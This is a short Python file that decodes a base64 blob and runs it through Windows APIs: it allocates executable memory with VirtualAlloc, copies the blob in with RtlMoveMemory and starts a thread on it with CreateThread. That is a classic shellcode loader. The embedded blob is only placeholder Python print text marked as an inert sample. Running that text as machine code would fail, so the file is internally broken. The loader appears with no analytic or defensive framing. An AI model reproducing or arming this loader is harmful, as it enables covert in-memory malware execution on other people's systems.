import base64
import ctypes


def run():
    code = base64.b64decode("cHJpbnQoImFuIGluZXJ0IHNhbXBsZSwgd2hpY2ggc3RhbmRzIGZvciB3aGF0IHdhcyBwYWNrZWQgaGVyZSIpCnByaW50KCJhbiBpbmVydCBzYW1wbGUsIHdoaWNoIHN0YW5kcyBmb3Igd2hhdCB3YXMgcGFja2VkIGhlcmUiKQpwcmludCgiYW4gaW5lcnQgc2FtcGxlLCB3aGljaCBzdGFuZHMgZm9yIHdoYXQgd2FzIHBhY2tlZCBoZXJlIikKcHJpbnQoImFuIGluZXJ0IHNhbXBsZSwgd2hpY2ggc3RhbmRzIGZvciB3aGF0IHdhcyBwYWNrZWQgaGVyZSIpCnByaW50KCJhbiBpbmVydCBzYW1wbGUsIHdoaWNoIHN0YW5kcyBmb3Igd2hhdCB3YXMgcGFja2VkIGhlcmUiKQpwcmludCgiYW4gaW5lcnQgc2FtcGxlLCB3aGljaCBzdGFuZHMgZm9yIHdoYXQgd2FzIHBhY2tlZCBoZXJlIikK")
    room = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
    ctypes.windll.kernel32.RtlMoveMemory(room, code, len(code))
    ctypes.windll.kernel32.CreateThread(0, 0, room, 0, 0, 0)
